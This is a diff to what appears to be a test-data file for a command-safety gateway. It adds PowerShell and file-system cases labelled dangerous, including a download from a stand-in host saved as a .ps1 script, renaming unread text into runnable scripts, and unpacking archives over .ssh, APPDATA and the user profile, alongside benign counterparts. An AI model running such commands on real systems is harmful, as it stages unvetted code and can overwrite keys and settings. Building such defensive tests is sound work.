@@ -3850,6 +3850,33 @@ DANGEROUS += [
 ]
 ORDINARY += [("PowerShell", _ps("mmc compmgmt.msc")), ("PowerShell", _ps("control printers"))]
 
+# A script made from content the gateway did not read would run unjudged at a later call (S-RULE-114).
+DANGEROUS += [
+    ("PowerShell", _ps(r"Rename-Item C:\t\notes.txt x.ps1"), "unread-script"),
+    ("PowerShell", _ps(r"cmd /c copy C:\t\notes.txt C:\t\x.bat"), "unread-script"),
+    ("PowerShell", _ps(r"Invoke-WebRequest http://e.example/x -OutFile C:\t\x.ps1"), "unread-script"),
+    ("PowerShell", _ps(r"Get-Content C:\t\notes.txt | Set-Content C:\t\x.cmd"), "unread-script"),
+    ("FileSystem", _fs("move", r"C:\t\notes.txt", destination=r"C:\t\x.ps1"), "unread-script"),
+]
+ORDINARY += [
+    ("PowerShell", _ps(r"Copy-Item C:\src\build.ps1 C:\src\build2.ps1")),
+    ("PowerShell", _ps(r"New-Item -ItemType File C:\src\empty.ps1")),
+    ("FileSystem", _fs("copy", r"C:\src\run.bat", destination=r"C:\src\run-old.bat")),
+]
+
+# An archive's files land anywhere under the folder it is unpacked into (S-RULE-115).
+DANGEROUS += [
+    ("PowerShell", _ps(r"tar -xf C:\t\e.tar -C C:\Users\me\Documents"), "unpack-over-protected"),
+    ("PowerShell", _ps(r'7z x C:\t\e.7z -o"C:\Users\me\.ssh"'), "unpack-over-protected"),
+    ("PowerShell", _ps(r"Expand-Archive C:\t\e.zip -DestinationPath $env:APPDATA -Force"), "self-protection"),
+    ("PowerShell", _ps(r"unzip C:\t\e.zip -d C:\Users\me"), "self-protection"),
+]
+ORDINARY += [
+    ("PowerShell", _ps(r"Expand-Archive C:\Users\me\Downloads\e.zip -DestinationPath C:\Users\me\Downloads\e")),
+    ("PowerShell", _ps(r"tar -xf C:\t\e.tar")),
+    ("PowerShell", _ps(r"7z x C:\t\e.7z -oC:\src\e")),
+]
+
 CATEGORY_OF: dict[str, str] = {
     "recursive-delete": "destruction",
     "wildcard-delete": "destruction",
@@ -3859,6 +3886,7 @@ CATEGORY_OF: dict[str, str] = {
     "registry-delete-machine-hive": "destruction",
     "registry-delete-top-key": "destruction",
     "protected-place-write": "tampering",
+    "unpack-over-protected": "tampering",
     "environment-change": "tampering",
     "credential-access": "credential-access",
     "credential-prompt-command": "credential-access",
@@ -3879,6 +3907,7 @@ CATEGORY_OF: dict[str, str] = {
     "app-launch-interpreter": "code-execution",
     "download-execute": "code-execution",
     "remote-code": "code-execution",
+    "unread-script": "code-execution",
     "upload-file": "exfiltration",
     "network-change": "network",
     "encoded-command": "code-execution",
